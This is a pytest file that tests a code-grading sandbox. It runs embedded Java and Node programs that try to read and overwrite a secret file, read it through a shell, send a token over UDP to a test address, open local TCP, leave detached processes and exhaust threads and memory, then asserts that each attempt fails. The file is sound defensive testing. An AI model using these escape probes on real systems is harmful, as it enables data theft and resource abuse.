"""The main attacks from Java and from Node, and that both work at all."""

import shutil
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from conformance.grade.bounded import Finished, run_bounded
from conformance.grade.build import Built, build
from conformance.grade.limits import Phase
from conformance.grade.processes import with_word
from conformance.grade.recipe import Recipe, find_recipe
from conformance.grade.tier import Sandbox
from conformance.grade.toolchain import abilities, find_toolchain
from tests.conformance.grade.missing import cannot_run
from tests.conformance.grade.waiting import eventually, own_word

LONG = 300.0
OUTPUT = 100_000

JAVA = """
import java.io.*;
import java.net.*;
import java.nio.file.*;
import java.util.*;

public class Main {
    interface Attempt { Object run() throws Exception; }

    static void attempt(String name, Attempt attempt) {
        try {
            Object got = attempt.run();
            System.out.println(name + " succeeded " + got);
        } catch (Exception | Error error) {
            System.out.println(name + " failed " + error.getClass().getSimpleName());
        }
    }

    static String read(String path) throws Exception {
        return Files.readString(Path.of(path));
    }

    static String shell(String script) throws Exception {
        Process process = new ProcessBuilder("sh", "-c", script).redirectErrorStream(true).start();
        String said = new String(process.getInputStream().readAllBytes());
        if (process.waitFor() != 0) throw new IOException(said);
        return said;
    }

    public static void main(String[] words) throws Exception {
        String secret = words[0];
        int port = Integer.parseInt(words[1]);
        String token = words[2];
        attempt("works", () -> shell("echo fine").trim());
        attempt("read", () -> read(secret));
        attempt("read-exec", () -> shell("cat '" + secret + "'"));
        attempt("write", () -> Files.writeString(Path.of(secret), "mine"));
        attempt("write-own", () -> Files.writeString(Path.of("Main.java"), "mine"));
        attempt("tcp", () -> new Socket("127.0.0.1", port));
        attempt("udp", () -> {
            byte[] data = token.getBytes();
            new DatagramSocket().send(new DatagramPacket(data, data.length, new InetSocketAddress("192.0.2.1", 9)));
            return "sent";
        });
        attempt("environment", () -> Optional.ofNullable(System.getenv("SECRET")).orElseThrow());
        attempt("processes", () -> {
            if (ProcessHandle.allProcesses().count() > 5) return "many";
            throw new IOException();
        });
        attempt("leave", () -> {
            new ProcessBuilder("setsid", "sh", "-c", "sleep 600; true", token).start();
            return "";
        });
        attempt("threads", () -> {
            for (int n = 0; n < 200; n++) {
                Thread thread = new Thread(() -> { try { Thread.sleep(600000); } catch (InterruptedException e) { } });
                thread.setDaemon(true);
                thread.start();
            }
            return "200 threads";
        });
        attempt("memory", () -> {
            List<byte[]> held = new ArrayList<>();
            for (int n = 0; n < 1024; n++) held.add(new byte[1 << 20]);
            return held.size();
        });
        System.exit(0);
    }
}
"""

NODE = """
const fs = require("fs"), net = require("net"), dgram = require("dgram");
const { execFileSync, spawn } = require("child_process");
const [secret, port, token] = process.argv.slice(2);
function attempt(name, action) {
    try { console.log(name, "succeeded", String(action()).trim()); }
    catch (error) { console.log(name, "failed", error.code ?? error.name); }
}
attempt("works", () => execFileSync("sh", ["-c", "echo fine"]));
attempt("read", () => fs.readFileSync(secret));
attempt("read-exec", () => execFileSync("cat", [secret], { stdio: ["ignore", "pipe", "ignore"] }));
attempt("write", () => fs.writeFileSync(secret, "mine"));
attempt("write-own", () => fs.writeFileSync("main.js", "mine"));
attempt("environment", () => { if (!process.env.SECRET) throw new Error(); return "seen"; });
attempt("processes", () => {
    if (fs.readdirSync("/proc").filter(name => /^\\d+$/.test(name)).length <= 5) throw new Error();
    return "many";
});
attempt("threads", () => {
    const children = [];
    for (let n = 0; n < 200; n++) {
        const child = spawn("sleep", ["600"], { detached: true, stdio: "ignore" });
        child.on("error", () => {});
        if (child.pid === undefined) { children.forEach(one => one.kill("SIGKILL")); throw new Error(); }
        children.push(child);
    }
    return "200 processes";
});
function last() {
    attempt("leave", () => {
        const child = spawn("sh", ["-c", "sleep 600; true", token], { detached: true, stdio: "ignore" });
        child.on("error", () => {});
        return child.pid > 0 ? "left" : "";
    });
    // Comes last: Node itself does not survive it.
    attempt("memory", () => {
        const held = [];
        for (let n = 0; n < 1024; n++) held.push(Buffer.alloc(1 << 20, 1));
        return held.length;
    });
    process.exit(0);
}
const client = net.connect(Number(port), "127.0.0.1");
client.on("connect", () => { console.log("tcp succeeded"); udp(); });
client.on("error", error => { console.log("tcp failed", error.code); udp(); });
function udp() {
    dgram.createSocket("udp4").send(token, 9, "192.0.2.1", error => {
        console.log("udp", error ? "failed " + error.code : "succeeded");
        last();
    });
}
"""


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret"
    path.write_text("secret")
    path.chmod(0o666)
    return path


@pytest.fixture
def port() -> Iterator[int]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server.getsockname()[1]


def need(tool: str) -> None:
    if shutil.which(tool) is None:
        cannot_run(f"{tool} is not installed")


def told(finished: Finished) -> dict[str, str]:
    """For each attempt what came of it."""
    lines = (line.split(" ") for line in finished.output.decode().splitlines())
    return {
        name: " ".join((outcome, *rest))
        for name, outcome, *rest in (words for words in lines if len(words) > 1)
        if outcome in ("succeeded", "failed")
    }


def check(outcomes: dict[str, str], secret: Path, token: str, finished: Finished) -> None:
    assert outcomes.pop("works") == "succeeded fine", finished.errors
    # That process may start, but it is gone with its parent.
    assert outcomes.pop("leave").startswith("succeeded")
    assert eventually(lambda: not with_word(token))
    expected = {"read", "read-exec", "write", "write-own", "tcp", "udp", "environment", "processes"}
    assert expected <= outcomes.keys(), finished.errors
    assert [name for name, outcome in outcomes.items() if "failed" not in outcome] == []
    assert secret.read_text() == "secret"


def test_attacks_from_java(
    sandbox: Sandbox,
    tmp_path: Path,
    secret: Path,
    port: int,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    need("javac")
    monkeypatch.setenv("SECRET", "1")
    folder = tmp_path / "java"
    folder.mkdir(mode=0o755)
    (folder / "Main.java").write_text(JAVA)
    recipe = find_recipe(folder, None, abilities(find_toolchain()))
    assert isinstance(recipe, Recipe)
    built = build(folder, recipe, tmp_path / "built", sandbox)
    assert isinstance(built, Built), built
    token = own_word("left-behind-by-java")
    command = [*recipe.run, str(secret), str(port), token]
    finished = run_bounded(sandbox.wrap(command, built.folder, Phase.RUN), LONG, OUTPUT, OUTPUT)
    check(told(finished), secret, token, finished)


def test_attacks_from_node(
    sandbox: Sandbox,
    tmp_path: Path,
    secret: Path,
    port: int,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    need("node")
    monkeypatch.setenv("SECRET", "1")
    folder = tmp_path / "node"
    folder.mkdir(mode=0o755)
    (folder / "main.js").write_text(NODE)
    token = own_word("left-behind-by-node")
    command = ["node", "main.js", str(secret), str(port), token]
    finished = run_bounded(sandbox.wrap(command, folder, Phase.RUN), LONG, OUTPUT, OUTPUT)
    check(told(finished), secret, token, finished)
